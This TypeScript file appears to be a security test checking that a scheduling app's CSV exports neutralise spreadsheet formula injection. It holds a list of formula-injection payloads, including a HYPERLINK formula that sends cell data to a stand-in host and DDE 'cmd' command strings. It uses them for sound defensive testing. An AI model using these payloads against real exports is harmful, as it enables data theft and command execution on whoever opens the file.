import { startWorker } from '../src/house.ts'
import type { Attack, Tally } from './frame/attack.ts'
import type { House } from './frame/house.ts'

/** A word that stands in each, so that a cell of ours is known from a number below zero. */
const mark = 'RANG'
const texts = [
  `=HYPERLINK("https://evil.example/?"&A1,"${mark}")`,
  `=cmd|' /C ${mark}'!A0`,
  `+${mark}|' /C calc'!A0`,
  `-2+3+cmd|' /C ${mark}'!A0`,
  `@SUM(${mark})*cmd|' /C calc'!A0`,
  `\t=${mark}()`,
  `\r=${mark}()`,
  `＝${mark}()`,
]

/** What spreadsheets take for the beginning of a formula, the wide signs of East Asia too. */
const formula = /^[=+\-@\t\r＝＋－＠]/

/** A table that somebody downloads and opens runs nothing that others wrote. */
const tables: Attack = {
  name: 'tables',
  async run(house, tally) {
    tally.check(
      'control: each of them is a formula as it stands',
      texts.every((text) => formula.test(text)),
    )
    await fill(house, tally)
    for (const path of [
      'audit/export',
      'numbers/export?of=posts&period=7',
      'numbers/export?of=days&period=7',
    ]) {
      const { status, text } = await house.owner(`GET ${path}`)
      const cells = cellsOf(text)
      tally.check(`GET ${path} is a table`, status === 200 && cells.length > 10, text.slice(0, 200))
      if (!path.includes('days'))
        tally.check(
          `control: GET ${path} holds the texts`,
          cells.filter((cell) => cell.includes(mark)).length >= 4,
        )
      for (const cell of cells.filter((one) => one.includes(mark)))
        tally.check(`GET ${path}: ${JSON.stringify(cell.slice(0, 60))}`, !formula.test(cell), cell)
    }
  },
}

async function fill({ ctx, owner }: House, tally: Tally): Promise<void> {
  const joined = await owner('POST channels', {
    network: 'feed',
    way: 'make',
    fields: { title: texts[1] ?? '', description: '', home: 'https://example.com' },
  })
  const [channel] = (joined.body.channels ?? []) as { id: string }[]
  if (!channel) throw new Error(`No feed was made: ${joined.text}`)
  for (const text of texts) {
    await owner('PATCH me', { name: text })
    await owner('POST campaigns', { name: text })
    const posted = await owner('POST posts', {
      content: { parts: [{ text }] },
      variants: [{ channelId: channel.id }],
      schedule: { kind: 'now' },
    })
    tally.check(`control: ${JSON.stringify(text)} is posted`, posted.status < 300, posted.text)
  }
  const worker = await startWorker(ctx)
  for (let i = 0; i < 60; i++) {
    const { body } = await owner(`GET deliveries?state=published&channel=${channel.id}&limit=100`)
    if ((body.items as object[]).length >= texts.length) break
    await new Promise((done) => setTimeout(done, 250))
  }
  await worker.stop()
}

/** The cells of a table as a spreadsheet reads them (RFC 4180). */
const cellsOf = (text: string): string[] =>
  [...text.replace(/^\uFEFF/, '').matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,"\r\n]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  )

export const tableAttacks: Attack[] = [tables]
